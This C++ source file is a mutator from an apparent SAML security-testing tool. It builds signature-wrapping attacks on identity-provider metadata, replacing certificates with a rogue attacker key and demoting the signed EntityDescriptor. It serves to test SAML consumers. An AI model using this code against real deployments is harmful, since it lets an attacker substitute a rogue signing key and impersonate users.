// SPDX-License-Identifier: Apache-2.0
// metadata.wrapped — signature wrapping applied to metadata (attack-catalogue MD-XSW; Somorovsky
// et al., USENIX Security 2012): the IdP's signed EntityDescriptor is kept intact but demoted, and
// an unsigned EntityDescriptor for the same entity ID carrying the attacker's key becomes what a
// naive consumer reads first: a new EntitiesDescriptor root listing the evil entity first
// (entity_added, default), or the evil entity as root with the original wrapped in its Extensions
// (root_wrapped). SAML2int IIP-MD03: the signature must sit on the root. Param `form`.
#include "mutators/metadata/metadata.hpp"
#include "mutators/mutators.hpp"
#include "samlt/core/random.hpp"
#include "samlt/core/saml_names.hpp"

namespace samlt::idp::mutators {
namespace {

namespace n = core::names;

// A copy of the signed EntityDescriptor without its Signature, a fresh ID, and every
// X509Certificate replaced by the attacker's.
xmlNode* evil_copy(xmlNode* original, const core::Certificate& attacker) {
  xmlNode* copy = xmlCopyNode(original, 1);
  if (xmlNode* signature = core::child_named(copy, n::ns_dsig, "Signature")) {
    core::remove_node(signature);
  }
  core::set_attribute(copy, "ID", core::new_saml_id());
  for (xmlNode* cert : core::descendants_named(copy, n::ns_dsig, "X509Certificate")) {
    core::set_text(cert, attacker.base64());
  }
  return copy;
}

}  // namespace

core::Result<void> metadata_wrapped(Target& target) {
  auto form = string_param(target, "form");
  if (!form) {
    return core::fail(form.error());
  }
  std::string wanted = form->value_or("entity_added");
  if (wanted != "entity_added" && wanted != "root_wrapped") {
    return core::fail(core::Reason::mutator_params_invalid, "/form: expected entity_added or root_wrapped");
  }
  const core::Credential* attacker = target.credential("idp-rogue");
  xmlNode* original = target.doc->root();
  if (attacker == nullptr || !core::is_element(original, n::ns_metadata, "EntityDescriptor")) {
    return core::fail(core::Reason::mutator_not_applicable, "needs an EntityDescriptor root and idp-rogue");
  }
  xmlNode* evil = evil_copy(original, attacker->certificate);
  if (wanted == "entity_added") {
    xmlNode* root = xmlNewDocNode(target.doc->get(), nullptr, BAD_CAST "EntitiesDescriptor", nullptr);
    xmlSetNs(root, xmlNewNs(root, BAD_CAST n::ns_metadata.data(), nullptr));
    xmlDocSetRootElement(target.doc->get(), root);
    xmlAddChild(root, evil);
    xmlAddChild(root, original);
    return {};
  }
  xmlDocSetRootElement(target.doc->get(), evil);
  xmlNode* extensions = xmlNewDocNode(target.doc->get(), nullptr, BAD_CAST "Extensions", nullptr);
  xmlSetNs(extensions, xmlSearchNsByHref(target.doc->get(), evil, BAD_CAST n::ns_metadata.data()));
  xmlAddPrevSibling(core::first_element_child(evil), extensions);
  xmlNode* wrapper = xmlNewDocNode(target.doc->get(), nullptr, BAD_CAST "Wrapper", nullptr);
  xmlSetNs(wrapper, xmlNewNs(wrapper, BAD_CAST "urn:attacker:wrapper", nullptr));
  xmlAddChild(extensions, wrapper);
  xmlAddChild(wrapper, original);
  return {};
}

}  // namespace samlt::idp::mutators
